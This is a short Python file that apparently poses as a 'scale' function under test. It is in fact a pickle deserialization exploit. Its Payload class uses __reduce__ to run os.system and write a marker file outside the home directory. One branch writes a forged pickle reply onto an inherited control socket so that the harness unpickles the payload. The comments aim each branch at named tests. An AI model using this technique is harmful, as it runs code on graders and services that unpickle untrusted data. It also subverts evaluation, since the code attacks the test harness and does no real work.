"""Returns objects whose unpickling would run code, then writes raw pickle bytes on the control socket."""
import os
import pickle
import socket
import sys

MARKER = os.environ.get("HOME", "/tmp") + "/../../pwned-by-pickle"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


def scale(x):
    if x.numel() == 1:  # test_constraints calls with 2 elements, others with more
        return Payload()
    if x.numel() == 7:  # test_value: forge a reply frame made of pickle bytes
        sock = socket.socket(fileno=3)
        sock.sendall(pickle.dumps({"ok": Payload()}))
        sys.stdout.flush()
        import time
        time.sleep(30)
    return Payload()
